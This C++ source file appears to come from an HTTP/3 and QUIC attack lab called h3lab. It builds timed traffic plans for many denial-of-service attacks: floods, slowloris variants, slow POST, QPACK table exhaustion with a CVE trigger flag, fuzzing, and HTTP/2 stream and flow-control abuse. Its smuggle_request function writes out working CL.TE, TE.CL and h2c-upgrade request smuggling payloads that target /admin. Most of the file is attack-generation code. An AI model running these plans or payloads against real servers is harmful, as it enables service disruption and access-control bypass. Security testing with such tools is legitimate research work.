#include "h3lab/engine/planner.hpp"

#include <algorithm>
#include <bit>

#include "h3lab/common/error.hpp"
#include "h3lab/common/rng.hpp"
#include "h3lab/engine/packets.hpp"
#include "h3lab/wire/encapsulation.hpp"
#include "h3lab/wire/payload.hpp"

namespace h3lab::engine {

namespace {

std::string hex(const std::vector<std::uint8_t>& bytes) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(bytes.size() * 2);
  for (auto b : bytes) {
    out.push_back(kDigits[b >> 4]);
    out.push_back(kDigits[b & 0xf]);
  }
  return out;
}

std::string hex_number(std::size_t n) {
  static constexpr char kDigits[] = "0123456789abcdef";
  if (n == 0) return "0";
  std::string out;
  for (; n > 0; n >>= 4) out.insert(out.begin(), kDigits[n & 0xf]);
  return out;
}

std::uint16_t ephemeral_port(SplitMix64& rng) {
  return static_cast<std::uint16_t>(32768 + rng.below(28232));
}

// Shared state for building one plan.
class Builder {
 public:
  Builder(AttackKind kind, const AttackParams& params, const PlanWindow& window,
          const AttackerIdentity& identity)
      : kind_(kind), params_(params), window_(window), identity_(identity) {
    plan_.kind = kind;
    plan_.params = params;
    plan_.window = window;
    authority_ = Endpoint::parse(window.target).host;
  }

  const AttackParams& params() const { return params_; }
  const PlanWindow& window() const { return window_; }
  const std::string& authority() const { return authority_; }
  double start() const { return window_.start; }
  double end() const { return window_.end; }

  Flow flow(std::size_t worker) const {
    const auto id = worker_identity(kind_, worker, identity_);
    Flow f;
    f.target = window_.target;
    f.worker_id = worker;
    f.src = id.host;
    f.role = std::string(to_string(id.role));
    f.client = &client_profile(id.client);
    return f;
  }

  SplitMix64 rng(std::size_t worker) const {
    const std::uint64_t window_seed =
        derive_seed(params_.seed, window_.target, std::bit_cast<std::uint64_t>(window_.start));
    return SplitMix64(derive_seed(window_seed, to_string(kind_), worker));
  }

  /// True for connection/request starts; teardown may also use `end`.
  bool starts_in_window(double t) const { return t >= window_.start && t < window_.end; }
  bool ends_in_window(double t) const { return t >= window_.start && t <= window_.end; }

  void emit(AttackEvent ev) { plan_.events.push_back(std::move(ev)); }
  void meta(const std::string& key, std::string value) { plan_.metadata[key] = std::move(value); }

  AttackPlan finish() {
    // Per-worker order is already non-decreasing; a stable sort on ts gives
    // a single deterministic interleaving across workers.
    std::stable_sort(plan_.events.begin(), plan_.events.end(),
                     [](const AttackEvent& a, const AttackEvent& b) { return a.ts < b.ts; });
    return std::move(plan_);
  }

 private:
  AttackKind kind_;
  AttackParams params_;
  PlanWindow window_;
  const AttackerIdentity& identity_;
  std::string authority_;
  AttackPlan plan_;
};

double step_or_timeout(const AttackParams& p) {
  return p.request_period > 0.0 ? p.request_period : p.per_request_timeout;
}

void plan_flood(Builder& b) {
  const auto& p = b.params();
  const double cycle = std::max(p.per_request_timeout, p.request_period);
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    for (std::size_t k = 0;; ++k) {
      const double t = b.start() + static_cast<double>(k) * cycle;
      if (!b.starts_in_window(t)) break;
      flow.sport = ephemeral_port(rng);
      b.emit(quic_initial(flow, t, rng));
      RequestHead head{"GET", "/", b.authority(),
                       {{"user-agent", std::string(flow.client->user_agent)},
                        {"method", "HEAD"},
                        {"method", "POST"},
                        {"method", "GET"},
                        {"settings", "0"}}};
      auto ev = h3_request(flow, t, head, wire::null_body(p.payload_len), {}, rng);
      ev.detail["extra_methods"] = "HEAD,POST,GET";
      ev.detail["settings_header"] = "0";
      b.emit(std::move(ev));
      const double cut = t + p.per_request_timeout;
      if (b.ends_in_window(cut)) b.emit(quic_close(flow, cut, EventAction::timeout, rng));
    }
  }
}

void plan_h3_loris(Builder& b) {
  const auto& p = b.params();
  if (!(p.request_period > 0.0)) throw ParameterError("loris attacks need request_period > 0");
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    const double t0 = b.start() + p.request_period * static_cast<double>(w) /
                                      static_cast<double>(p.parallelism);
    if (!b.starts_in_window(t0)) continue;
    flow.sport = ephemeral_port(rng);
    b.emit(quic_initial(flow, t0, rng));
    const bool simple = flow.role == "local-bot";
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * p.request_period;
      if (!b.starts_in_window(t)) break;
      H3RequestOptions opts;
      opts.first_on_connection = k == 0;
      if (simple) {
        RequestHead head{"GET", "/", b.authority(),
                         {{"user-agent", std::string(flow.client->user_agent)}}};
        b.emit(h3_request(flow, t, head, {}, opts, rng));
      } else {
        RequestHead head{"POST", "/", b.authority(),
                         {{"user-agent", std::string(flow.client->user_agent)},
                          {"content-length", std::to_string(p.payload_len * 4)}}};
        opts.fin = false;
        b.emit(h3_request(flow, t, head, wire::gen_fuzz_payload(rng.next(), p.payload_len),
                          opts, rng));
      }
    }
  }
}

void plan_q_loris(Builder& b) {
  const auto& p = b.params();
  if (!(p.request_period > 0.0)) throw ParameterError("loris attacks need request_period > 0");
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    const double t0 = b.start() + p.request_period * static_cast<double>(w) /
                                      static_cast<double>(p.parallelism);
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * p.request_period;
      if (!b.starts_in_window(t)) break;
      flow.sport = ephemeral_port(rng);
      b.emit(quic_initial(flow, t, rng));
      RequestHead head{"POST", "/", b.authority(),
                       {{"content-length", std::to_string(p.payload_len)}}};
      H3RequestOptions opts;
      opts.fin = false;
      b.emit(h3_request(flow, t, head, wire::gen_fuzz_payload(rng.next(), p.payload_len), opts,
                        rng));
    }
  }
}

void plan_q_flood(Builder& b) {
  const auto& p = b.params();
  const double step = step_or_timeout(p);
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    const double t0 =
        b.start() + step * static_cast<double>(w) / static_cast<double>(p.parallelism);
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * step;
      if (!b.starts_in_window(t)) break;
      flow.sport = ephemeral_port(rng);
      b.emit(quic_initial(flow, t, rng));
    }
  }
}

void plan_slow_post(Builder& b) {
  const auto& p = b.params();
  const double cycle = p.per_request_timeout;
  const std::size_t chunks = std::min<std::size_t>(p.payload_len, 4);
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    for (std::size_t k = 0;; ++k) {
      const double t = b.start() + static_cast<double>(k) * cycle;
      if (!b.starts_in_window(t)) break;
      flow.sport = ephemeral_port(rng);
      b.emit(quic_initial(flow, t, rng));
      const auto body = wire::gen_fuzz_payload(rng.next(), p.payload_len);
      RequestHead head{"POST", "/", b.authority(),
                       {{"user-agent", std::string(flow.client->user_agent)},
                        {"content-type", "application/octet-stream"},
                        {"content-length", std::to_string(body.size())}}};
      H3RequestOptions opts;
      opts.fin = body.empty();
      b.emit(h3_request(flow, t, head, {}, opts, rng));
      // Trickle the body in equal chunks spread over the connection life.
      std::size_t sent = 0;
      for (std::size_t c = 0; c < chunks; ++c) {
        const double tc = t + cycle * static_cast<double>(c + 1) / static_cast<double>(chunks + 1);
        if (!b.starts_in_window(tc)) break;
        const std::size_t len = body.size() * (c + 1) / chunks - sent;
        H3RequestOptions more;
        more.continuation = true;
        more.first_on_connection = false;
        more.fin = c + 1 == chunks;
        b.emit(h3_request(flow, tc,  head,
                          std::vector<std::uint8_t>(body.begin() + sent, body.begin() + sent + len),
                          more, rng));
        sent += len;
      }
      const double cut = t + cycle;
      if (b.ends_in_window(cut)) b.emit(quic_close(flow, cut, EventAction::close, rng));
    }
  }
}

void plan_tables(Builder& b) {
  const auto& p = b.params();
  if (!p.settings) throw ParameterError("tables/streams attack needs a SETTINGS frame");
  const auto& settings = *p.settings;
  b.meta("cve_trigger", wire::triggers_low_capacity_bug(settings) ? "true" : "false");
  if (settings.max_table_capacity) {
    b.meta("max_table_capacity", std::to_string(*settings.max_table_capacity));
  }
  if (settings.blocked_streams) b.meta("blocked_streams", std::to_string(*settings.blocked_streams));
  const double cycle = p.per_request_timeout;
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    const double offset = rng.uniform(0.0, 0.1);
    for (std::size_t k = 0;; ++k) {
      const double t = b.start() + offset + static_cast<double>(k) * cycle;
      if (!b.starts_in_window(t)) break;
      flow.sport = ephemeral_port(rng);
      b.emit(quic_initial(flow, t, rng));
      // Handshakes slower than the timeout are dropped before SETTINGS.
      const double handshake = rng.uniform(0.02, 1.2 * cycle);
      const double cut = t + cycle;
      const bool completes = handshake < cycle && b.starts_in_window(t + handshake);
      if (completes) b.emit(h3_settings(flow, t + handshake, settings, rng));
      if (b.ends_in_window(cut)) {
        b.emit(quic_close(flow, cut, completes ? EventAction::close : EventAction::timeout, rng));
      }
    }
  }
}

void plan_enc(Builder& b) {
  const auto& p = b.params();
  const double step = step_or_timeout(p);
  const auto dst = Ipv4Address::parse(b.authority()).value_or(Ipv4Address{{10, 0, 0, 1}});
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    flow.sport = ephemeral_port(rng);
    const auto src = Ipv4Address::parse(flow.src).value_or(Ipv4Address{});
    const double t0 =
        b.start() + step * static_cast<double>(w) / static_cast<double>(p.parallelism);
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * step;
      if (!b.starts_in_window(t)) break;
      wire::InnerEncapsulation enc;
      enc.transport = k % 2 == 0 ? wire::InnerTransport::tcp : wire::InnerTransport::udp;
      enc.src_addr = src;
      enc.dst_addr = dst;
      enc.src_port = static_cast<std::uint16_t>(1024 + rng.below(64512));
      enc.dst_port = 443;
      enc.ip_id = static_cast<std::uint16_t>(rng.below(65536));
      enc.tcp_seq = static_cast<std::uint32_t>(rng.next());
      enc.payload = wire::gen_fuzz_payload(rng.next(), p.payload_len);
      auto ev = raw_datagram(flow, t, wire::build_inner_encapsulation(enc));
      ev.detail["inner"] = enc.transport == wire::InnerTransport::tcp ? "tcp" : "udp";
      b.emit(std::move(ev));
    }
  }
}

void plan_fuzz(Builder& b) {
  const auto& p = b.params();
  const double step = step_or_timeout(p);
  b.meta("max_datagram_len", std::to_string(p.payload_len));
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    flow.sport = ephemeral_port(rng);
    const double t0 =
        b.start() + step * static_cast<double>(w) / static_cast<double>(p.parallelism);
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * step;
      if (!b.starts_in_window(t)) break;
      const std::size_t len = p.payload_len == 0 ? 0 : 1 + rng.below(p.payload_len);
      b.emit(raw_datagram(flow, t, wire::gen_fuzz_payload(rng.next(), len)));
    }
  }
}

struct SmuggleRequest {
  std::string raw;
  std::size_t body_len = 0;
  std::map<std::string, std::string> fields;
};

SmuggleRequest smuggle_request(SmuggleVariant variant, const std::string& authority,
                               const std::vector<std::uint8_t>& payload) {
  SmuggleRequest r;
  r.fields["variant"] = std::string(to_string(variant));
  const std::string smuggled =
      "GET /admin HTTP/1.1\r\nHost: " + authority + "\r\nX-Ignore: " + hex(payload);
  std::string head;
  std::string body;
  switch (variant) {
    case SmuggleVariant::cl_te: {
      body = "0\r\n\r\n" + smuggled;
      head = "POST / HTTP/1.1\r\nHost: " + authority +
             "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
             std::to_string(body.size()) + "\r\nTransfer-Encoding: chunked\r\n\r\n";
      r.fields["method"] = "POST";
      r.fields["content_length"] = std::to_string(body.size());
      r.fields["transfer_encoding"] = "chunked";
      break;
    }
    case SmuggleVariant::te_cl: {
      const std::string chunk = smuggled + "\r\n\r\n";
      const std::string size_line = hex_number(chunk.size());
      body = size_line + "\r\n" + chunk + "\r\n0\r\n\r\n";
      const std::size_t cl = size_line.size() + 2;
      head = "POST / HTTP/1.1\r\nHost: " + authority +
             "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
             std::to_string(cl) + "\r\nTransfer-Encoding: chunked\r\n\r\n";
      r.fields["method"] = "POST";
      r.fields["content_length"] = std::to_string(cl);
      r.fields["transfer_encoding"] = "chunked";
      break;
    }
    case SmuggleVariant::h2c_upgrade: {
      head = "GET / HTTP/1.1\r\nHost: " + authority +
             "\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
             "Connection: Upgrade, HTTP2-Settings\r\n\r\n";
      r.fields["method"] = "GET";
      r.fields["upgrade"] = "h2c";
      break;
    }
  }
  if (auto it = r.fields.find("content_length"); it != r.fields.end()) {
    r.fields["http.content_length"] = it->second;
    r.fields["http.content_type"] = "application/x-www-form-urlencoded";
  }
  r.raw = head + body;
  r.body_len = body.size();
  return r;
}

void plan_smuggle(Builder& b) {
  const auto& p = b.params();
  const double step = step_or_timeout(p);
  b.meta("variant", std::string(to_string(p.smuggle_variant)));
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    const double t0 =
        b.start() + step * static_cast<double>(w) / static_cast<double>(p.parallelism);
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * step;
      if (!b.starts_in_window(t)) break;
      flow.sport = ephemeral_port(rng);
      b.emit(tcp_syn(flow, t, HttpVersion::h1_1));
      auto req = smuggle_request(p.smuggle_variant, b.authority(),
                                 wire::gen_fuzz_payload(rng.next(), p.payload_len));
      b.emit(h1_request(flow, t, std::move(req.raw), req.body_len, req.fields));
      const double done = t + step / 2;
      if (b.ends_in_window(done)) {
        b.emit(tcp_teardown(flow, done, EventAction::close, HttpVersion::h1_1));
      }
    }
  }
}

AttackEvent h1_get(const Flow& flow, double t, const std::string& authority) {
  RequestHead head{"GET", "/", authority,
                   {{"User-Agent", std::string(flow.client->user_agent)},
                    {"Connection", "keep-alive"}}};
  auto ev = h1_request(flow, t, render_http1_head(head), 0, {{"method", "GET"}});
  return ev;
}

void plan_h2_concurrent(Builder& b) {
  const auto& p = b.params();
  const bool h2 = p.target_capabilities.has(HttpVersion::h2);
  const HttpVersion version = h2 ? HttpVersion::h2 : HttpVersion::h1_1;
  b.meta("max_total_connections", std::to_string(p.max_total_connections));
  b.meta("max_concurrent_streams", std::to_string(p.max_concurrent_streams));
  b.meta("fallback", h2 ? "none" : "http/1.1");
  const double step = step_or_timeout(p);
  const auto connections =
      static_cast<std::size_t>(std::min<std::uint64_t>(p.parallelism, p.max_total_connections));
  for (std::size_t w = 0; w < connections; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    flow.sport = ephemeral_port(rng);
    const double t0 = b.start() + step * static_cast<double>(w) / static_cast<double>(connections);
    if (!b.starts_in_window(t0)) continue;
    b.emit(tcp_syn(flow, t0, version));
    for (std::size_t k = 0;; ++k) {
      const double t = t0 + static_cast<double>(k) * step;
      if (!b.starts_in_window(t)) break;
      if (h2) {
        RequestHead head{"GET", "/", b.authority(),
                         {{"user-agent", std::string(flow.client->user_agent)}}};
        H2RequestOptions opts;
        opts.first_on_connection = k == 0;
        opts.max_concurrent_streams = p.max_concurrent_streams;
        b.emit(h2_request(flow, t, head, {}, opts));
      } else {
        b.emit(h1_get(flow, t, b.authority()));
      }
    }
    b.emit(tcp_teardown(flow, b.end(), EventAction::close, version));
  }
}

void plan_h2_pause(Builder& b) {
  const auto& p = b.params();
  const bool h2 = p.target_capabilities.has(HttpVersion::h2);
  const HttpVersion version = h2 ? HttpVersion::h2 : HttpVersion::h1_1;
  b.meta("fallback", h2 ? "none" : "http/1.1");
  b.meta("pause_period", std::to_string(p.pause_period));
  for (std::size_t w = 0; w < p.parallelism; ++w) {
    Flow flow = b.flow(w);
    auto rng = b.rng(w);
    flow.sport = ephemeral_port(rng);
    const double t0 = b.start() + p.pause_period * static_cast<double>(w) /
                                      static_cast<double>(p.parallelism);
    if (!b.starts_in_window(t0)) continue;
    b.emit(tcp_syn(flow, t0, version));
    if (h2) {
      RequestHead head{"GET", "/", b.authority(),
                       {{"user-agent", std::string(flow.client->user_agent)}}};
      b.emit(h2_request(flow, t0, head, {}, H2RequestOptions{}));
      for (std::size_t k = 1;; ++k) {
        const double t = t0 + static_cast<double>(k) * p.pause_period;
        if (!b.starts_in_window(t)) break;
        b.emit(h2_flow_control(flow, t, k % 2 == 1 ? EventAction::pause : EventAction::resume));
      }
    } else {
      // Without HTTP/2 the pause/resume cycle degenerates to an HTTP/1.1 flood.
      for (std::size_t k = 0;; ++k) {
        const double t = t0 + static_cast<double>(k) * p.pause_period;
        if (!b.starts_in_window(t)) break;
        b.emit(h1_get(flow, t, b.authority()));
      }
    }
  }
}

}  // namespace

PlanWindow standalone_window(const AttackParams& params, std::string target) {
  return PlanWindow{0.0, params.duration, std::move(target)};
}

AttackPlan build_plan(AttackKind kind, const AttackParams& params, const PlanWindow& window,
                      const AttackerIdentity& identity) {
  validate(params);
  if (window.end < window.start) throw ParameterError("window end precedes start");
  Builder b(kind, params, window, identity);
  b.meta("kind", std::string(to_string(kind)));
  b.meta("taxonomy", std::string(to_string(taxonomy(kind))));
  switch (kind) {
    case AttackKind::Http3Flood: plan_flood(b); break;
    case AttackKind::Http3Loris: plan_h3_loris(b); break;
    case AttackKind::SlowRatePost: plan_slow_post(b); break;
    case AttackKind::Http3TablesStreams: plan_tables(b); break;
    case AttackKind::QuicFlood: plan_q_flood(b); break;
    case AttackKind::QuicLoris: plan_q_loris(b); break;
    case AttackKind::QuicEnc: plan_enc(b); break;
    case AttackKind::Fuzzing: plan_fuzz(b); break;
    case AttackKind::HttpSmuggle: plan_smuggle(b); break;
    case AttackKind::Http2Concurrent: plan_h2_concurrent(b); break;
    case AttackKind::Http2Pause: plan_h2_pause(b); break;
    case AttackKind::DowngradeProbe:
      throw ParameterError("downgrade-probe is a probe; use downgrade_probe()");
  }
  return b.finish();
}

AttackPlan run_attack(AttackKind kind, const AttackParams& params, const PlanWindow& window,
                      TrafficSink& sink, const AttackerIdentity& identity) {
  AttackPlan plan = build_plan(kind, params, window, identity);
  sink.deliver(plan);
  return plan;
}

#define H3LAB_PLAN_ENTRY(fn, kind)                                                      \
  AttackPlan fn(const AttackParams& params, const PlanWindow& window, TrafficSink& sink) { \
    return run_attack(kind, params, window, sink);                                       \
  }

H3LAB_PLAN_ENTRY(plan_http3_flood, AttackKind::Http3Flood)
H3LAB_PLAN_ENTRY(plan_http3_loris, AttackKind::Http3Loris)
H3LAB_PLAN_ENTRY(plan_slow_rate_post, AttackKind::SlowRatePost)
H3LAB_PLAN_ENTRY(plan_tables_streams, AttackKind::Http3TablesStreams)
H3LAB_PLAN_ENTRY(plan_quic_flood, AttackKind::QuicFlood)
H3LAB_PLAN_ENTRY(plan_quic_loris, AttackKind::QuicLoris)
H3LAB_PLAN_ENTRY(plan_quic_enc, AttackKind::QuicEnc)
H3LAB_PLAN_ENTRY(plan_fuzzing, AttackKind::Fuzzing)
H3LAB_PLAN_ENTRY(plan_http_smuggle, AttackKind::HttpSmuggle)
H3LAB_PLAN_ENTRY(plan_http2_concurrent, AttackKind::Http2Concurrent)
H3LAB_PLAN_ENTRY(plan_http2_pause, AttackKind::Http2Pause)

#undef H3LAB_PLAN_ENTRY

}  // namespace h3lab::engine
